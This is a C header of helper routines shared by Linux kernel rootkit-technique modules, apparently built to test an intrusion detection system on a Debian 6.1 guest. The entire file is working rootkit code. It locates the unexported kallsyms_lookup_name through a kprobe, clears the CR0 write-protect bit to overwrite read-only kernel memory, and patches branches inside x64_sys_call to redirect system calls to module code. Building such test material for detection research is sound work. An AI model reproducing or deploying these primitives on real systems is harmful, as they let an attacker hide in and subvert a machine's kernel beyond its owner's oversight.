/* SPDX-License-Identifier: GPL-2.0 */
/*
 * What the rootkit-technique modules share: symbol lookup for symbols the
 * kernel does not export, writes over read-only kernel memory, and the
 * x64_sys_call dispatch patch. Each helper does what public LKM rootkits
 * for 5.7+ kernels do, so that the IDS is tested against the real thing.
 *
 * Written for Debian bookworm's 6.1 x86-64 kernel (the default guest kit),
 * one vCPU: code patches are plain stores with interrupts off, not the
 * kernel's text_poke_bp dance.
 */
#ifndef RK_COMMON_H
#define RK_COMMON_H

#include <linux/atomic.h>
#include <linux/delay.h>
#include <linux/irqflags.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/ptrace.h>
#include <linux/string.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>

/*
 * kallsyms_lookup_name is not exported since 5.7: a kprobe on it resolves
 * its address (register_kprobe looks the name up with the kernel's own
 * kallsyms), and the probe is removed at once.
 */
typedef unsigned long (*rk_kln_t)(const char *name);
static rk_kln_t rk_kallsyms_lookup_name;

static int __maybe_unused rk_init_kallsyms(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int ret = register_kprobe(&kp);

	if (ret < 0) {
		pr_err("%s: kprobe on kallsyms_lookup_name: %d\n", KBUILD_MODNAME, ret);
		return ret;
	}
	rk_kallsyms_lookup_name = (rk_kln_t)kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

/* rk_sym returns the address of a kernel symbol, 0 (and a log line) if none. */
static unsigned long __maybe_unused rk_sym(const char *name)
{
	unsigned long addr = rk_kallsyms_lookup_name ? rk_kallsyms_lookup_name(name) : 0;

	if (!addr)
		pr_err("%s: no symbol %s\n", KBUILD_MODNAME, name);
	return addr;
}

/*
 * native_write_cr0 pins CR0.WP since 5.3, so CR0 is written with inline
 * asm, as rootkits do.
 */
static __always_inline void rk_set_cr0(unsigned long val)
{
	asm volatile("mov %0, %%cr0" : "+r"(val) : : "memory");
}

/*
 * rk_write_ro copies n bytes over read-only kernel memory (rodata, text)
 * with CR0.WP cleared and interrupts off. Writing CR0 serializes, so the
 * CPU executes the new code after it.
 */
static void __maybe_unused rk_write_ro(void *dst, const void *src, size_t n)
{
	unsigned long flags, cr0;
	size_t i;

	local_irq_save(flags);
	cr0 = read_cr0();
	rk_set_cr0(cr0 & ~X86_CR0_WP);
	for (i = 0; i < n; i++)
		((volatile u8 *)dst)[i] = ((const u8 *)src)[i];
	rk_set_cr0(cr0);
	local_irq_restore(flags);
}

/*
 * Hooks count themselves in and out, so that unloading waits for a task
 * still running module code after the patch is undone.
 */
static atomic_t rk_inflight = ATOMIC_INIT(0);

static inline void rk_enter(void) { atomic_inc(&rk_inflight); }
static inline void rk_leave(void) { atomic_dec(&rk_inflight); }

static void __maybe_unused rk_drain(void)
{
	int i;

	for (i = 0; i < 500 && atomic_read(&rk_inflight) > 0; i++)
		msleep(10);
	msleep(20); /* the instructions around rk_enter/rk_leave */
}

typedef long (*rk_syscall_t)(const struct pt_regs *regs);

/*
 * A dispatch patch: since the backport of "x86/syscall: Don't use indirect
 * calls" (6.1.85+), do_syscall_64 calls x64_sys_call, a switch over the
 * syscall number whose cases end in `jmp __x64_sys_NAME`. Rewriting one
 * such branch's rel32 sends that syscall to module code; sys_call_table is
 * no longer read on this path.
 */
#define RK_MAX_SITES 4

struct rk_dispatch {
	const char *handler;	/* "__x64_sys_kill" */
	void *hook;		/* module code taking the handler's place */
	rk_syscall_t orig;	/* the handler */
	u8 *site[RK_MAX_SITES];	/* the e8/e9 opcodes branching to it */
	s32 rel[RK_MAX_SITES];	/* their original rel32 */
	int n;
};

static int __maybe_unused rk_dispatch_patch(struct rk_dispatch *d)
{
	typedef int (*lso_t)(unsigned long addr, unsigned long *size, unsigned long *offset);
	lso_t lso = (lso_t)rk_sym("kallsyms_lookup_size_offset");
	unsigned long fn = rk_sym("x64_sys_call");
	unsigned long handler = rk_sym(d->handler);
	unsigned long size = 0, off = 0, i;
	int k;

	if (!lso || !fn || !handler || !lso(fn, &size, &off) || off != 0)
		return -ENOENT;
	d->orig = (rk_syscall_t)handler;
	d->n = 0;
	for (i = 0; i + 5 <= size && d->n < RK_MAX_SITES; i++) {
		u8 *ip = (u8 *)fn + i;
		s32 rel;

		if (ip[0] != 0xe8 && ip[0] != 0xe9)
			continue;
		memcpy(&rel, ip + 1, 4);
		if ((unsigned long)(ip + 5) + (long)rel != handler)
			continue;
		d->site[d->n] = ip;
		d->rel[d->n] = rel;
		d->n++;
	}
	if (d->n == 0) {
		pr_err("%s: no branch to %s in x64_sys_call (%lu bytes)\n", KBUILD_MODNAME, d->handler, size);
		return -ENOENT;
	}
	for (k = 0; k < d->n; k++) {
		long rel = (long)d->hook - (long)(d->site[k] + 5);
		s32 rel32 = (s32)rel;

		if (rel != rel32)
			return -ERANGE; /* modules are within ±2 GB of the kernel text */
	}
	for (k = 0; k < d->n; k++) {
		s32 rel32 = (s32)((long)d->hook - (long)(d->site[k] + 5));

		rk_write_ro(d->site[k] + 1, &rel32, 4);
		pr_info("%s: x64_sys_call+%#lx now branches to %ps instead of %s\n", KBUILD_MODNAME,
			(unsigned long)(d->site[k] - (u8 *)fn), d->hook, d->handler);
	}
	return 0;
}

static void __maybe_unused rk_dispatch_unpatch(struct rk_dispatch *d)
{
	int k;

	for (k = 0; k < d->n; k++)
		rk_write_ro(d->site[k] + 1, &d->rel[k], 4);
	d->n = 0;
}

#endif /* RK_COMMON_H */
